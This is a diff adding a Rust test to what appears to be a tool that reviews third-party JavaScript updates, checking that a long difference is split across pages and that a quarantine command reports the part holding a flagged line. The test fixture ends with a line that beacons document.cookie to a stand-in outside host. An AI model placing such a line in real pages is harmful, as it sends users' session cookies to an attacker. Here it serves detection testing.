@@ -157,6 +157,35 @@ async fn lines_that_differ_by_local_names_alone_are_counted_and_a_link_shows_the
 }
 
 #[tokio::test]
+async fn a_difference_that_does_not_fit_on_one_page_goes_on_on_the_next_and_facts_link_to_their_part() {
+    let long = (0..2500).map(|at| format!("\nplay('tune {at}');")).collect::<String>();
+    let script = format!("{LIBRARY}{long}\nnavigator.sendBeacon('https://last.example/', document.cookie);");
+    let update = Update { path: "/app.js", script, planted: &[], says: "Code changed" };
+    let (_vendor, gateway) = with_ten(&[update]).await;
+    let mut ada = reviewer(&gateway);
+    ada.sign_in("ada", PASSWORD).await;
+    let link = &queue(&ada).await[0].0;
+    let opened = async |query: &str| loop {
+        let page = ada.open(&format!("{link}{query}")).await.body;
+        if !page.contains("data-running") {
+            break page;
+        }
+    };
+
+    let (first, second) = (opened("").await, opened("?part=2").await);
+
+    assert!(first.contains("Part 1 of 2") && first.contains("href=\"?part=2#difference\""), "{first}");
+    assert!(first.contains("tune 17") && !first.contains("tune 2499"), "{first}");
+    let (beacon, _) = second.rsplit_once("last.example").unwrap();
+    let line = beacon.rsplit_once("<code id=\"n").unwrap().1.split_once('"').unwrap().0;
+    assert!(first.contains(&format!("href=\"?part=2#n{line}\"")), "{line}: {first}");
+    assert!(second.contains("Part 2 of 2") && second.contains("href=\"?#difference\""), "{second}");
+    let incident = link.rsplit('/').next().unwrap();
+    let told = gateway.command(&["quarantine", "diff", incident, "--part", "2"]).await.success();
+    assert!(told.text().contains("last.example") && told.text().contains("part 2 of 2"), "{}", told.text());
+}
+
+#[tokio::test]
 async fn what_cannot_be_analysed_is_said_and_without_a_verified_version_all_that_it_does_is_listed() {
     let vendor = vendor().script("/page.js", "no script at all").script("/app.js", LIBRARY).listen().await;
     let gateway = gateway().vendor(&vendor);
